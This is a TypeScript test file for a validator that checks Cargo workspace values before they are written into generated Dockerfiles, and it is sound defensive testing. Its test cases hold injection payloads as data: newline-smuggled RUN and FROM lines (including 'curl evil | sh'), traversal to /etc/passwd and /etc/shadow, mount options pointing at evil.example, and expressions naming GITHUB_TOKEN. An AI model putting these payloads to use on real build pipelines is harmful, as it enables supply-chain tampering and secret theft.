import type { CargoWorkspace } from '../../src/cargo/model';
import { RustDockerError } from '../../src/core/errors';
import { checkWorkspaceValues, plainText } from '../../src/plan/safety';
import { bin, fakePackage, fakeWorkspace } from '../support/fake-workspace';

function caught(ws: CargoWorkspace): RustDockerError {
  try {
    checkWorkspaceValues(ws);
  } catch (e) {
    if (e instanceof RustDockerError) {
      return e;
    }
    throw e;
  }
  throw new Error('expected a RustDockerError');
}

describe('checkWorkspaceValues: every Cargo value that reaches a generated file is proved safe', () => {
  test('an ordinary workspace passes, including Unicode names and spaces in directories', () => {
    const api = fakePackage({ name: 'api', dir: 'services/my api', features: ['tls', 'serde/derive', 'dep:rustls', 'tokio?/rt'] });
    const cafe = fakePackage({ name: 'café', dir: 'crates/café', bins: [bin('café', 'crates/café/src/main.rs', ['tls'])] });
    expect(() => checkWorkspaceValues(fakeWorkspace([api, cafe], {
      toolchain: { file: 'rust-toolchain.toml', channel: 'nightly-2024-05-01', components: ['rust-src', 'clippy'], targets: ['x86_64-unknown-linux-musl'] },
    }))).not.toThrow();
  });

  test.each([
    ['a newline in a bin name', fakePackage({ name: 'svc', bins: [bin('svc\nRUN x', 'src/main.rs')] }), /\[\[bin\]\] 'svc\\nRUN x'.*line break/],
    ['a space in a bin name', fakePackage({ name: 'svc', bins: [bin('x PWNED #', 'src/main.rs')] }), /\[\[bin\]\] 'x PWNED #'.*characters that cargo/],
    ['mount options in a bin name', fakePackage({ name: 'svc', bins: [bin('x,source=/,from=evil.example/img:latest', 'src/main.rs')] }), /\[\[bin\]\]/],
    ['a traversing bin name', fakePackage({ name: 'svc', bins: [bin('../../etc/passwd', 'src/main.rs')] }), /\[\[bin\]\] '..\/..\/etc\/passwd'/],
    ['a traversing bin path', fakePackage({ name: 'svc', bins: [bin('svc', '../../etc/passwd')] }), /path of bin target 'svc' "..\/..\/etc\/passwd" leaves the workspace root/],
    ['an absolute bin path', fakePackage({ name: 'svc', bins: [bin('svc', '/etc/shadow')] }), /"\/etc\/shadow" is absolute/],
    ['a $ in a member directory', fakePackage({ name: 'svc', dir: '$HOME/svc' }), /package directory "\$HOME\/svc" has a character that a Dockerfile COPY/],
    ['a glob in a member directory', fakePackage({ name: 'svc', dir: 'crates/*' }), /package directory "crates\/\*"/],
    ['a newline in a member directory', fakePackage({ name: 'svc', dir: 'a\nRUN x' }), /package directory "a\\nRUN x" contains a line break/],
    ['an expression in a feature', fakePackage({ name: 'svc', features: ['dep/${{ secrets.GITHUB_TOKEN }}'] }), /feature name "dep\/\$\{\{ secrets.GITHUB_TOKEN \}\}"/],
    ['a newline in a required feature', fakePackage({ name: 'svc', bins: [bin('svc', 'src/main.rs', ['a\nb'])] }), /required feature of 'svc' "a\\nb" contains a line break/],
    ['a newline in rust-version', fakePackage({ name: 'svc', rustVersion: '1.80\nFROM evil AS builder' }), /rust-version "1.80\\nFROM evil AS builder" contains a line break/],
    ['an expression in rust-version', fakePackage({ name: 'svc', rustVersion: '${{ github.token }}' }), /rust-version "\$\{\{ github.token \}\}" has characters/],
  ])('%s is an error naming the manifest, the value and the fix', (_name, pkg, message) => {
    const error = caught(fakeWorkspace([pkg]));
    expect(error.file).toBe(pkg.manifestPath);
    expect(error.message).toMatch(message);
    expect(error.fix).toMatch(/Rename it to letters, digits/);
  });

  test.each([
    ['channel', { channel: '1.80\nRUN curl evil | sh' }, /toolchain channel "1.80\\nRUN curl evil \| sh" contains a line break/],
    ['channel with an expression', { channel: '${{ secrets.X }}' }, /toolchain channel/],
    ['component', { channel: 'stable', components: ['rust-src\nRUN x'] }, /toolchain component/],
    ['target', { channel: 'stable', targets: ['a b'] }, /toolchain target "a b"/],
  ] as [string, Partial<CargoWorkspace['toolchain']>, RegExp][])('a toolchain file %s is checked, naming the toolchain file', (_name, toolchain, message) => {
    const ws = fakeWorkspace([fakePackage({ name: 'svc' })], { toolchain: { file: 'rust-toolchain.toml', components: [], targets: [], ...toolchain } as CargoWorkspace['toolchain'] });
    const error = caught(ws);
    expect(error.file).toBe('rust-toolchain.toml');
    expect(error.message).toMatch(message);
  });

  test('vendored directories and path dependencies are checked as paths', () => {
    const svc = fakePackage({ name: 'svc' });
    expect(caught(fakeWorkspace([svc], { cargoConfig: { file: '.cargo/config.toml', sourceDirs: ['../vendor'] } })).message)
      .toMatch(/^\.cargo\/config\.toml: the directory the build copies "..\/vendor" leaves the workspace root/);
    expect(caught(fakeWorkspace([svc], { pathDependencyDirs: ['libs/[x]'] })).message).toMatch(/directory the build copies "libs\/\[x\]"/);
  });

  test('plainText turns control characters into spaces and keeps one line', () => {
    expect(plainText('Says "hi"\nover\u0000HTTP\u2028now ')).toBe('Says "hi" over HTTP now');
  });
});
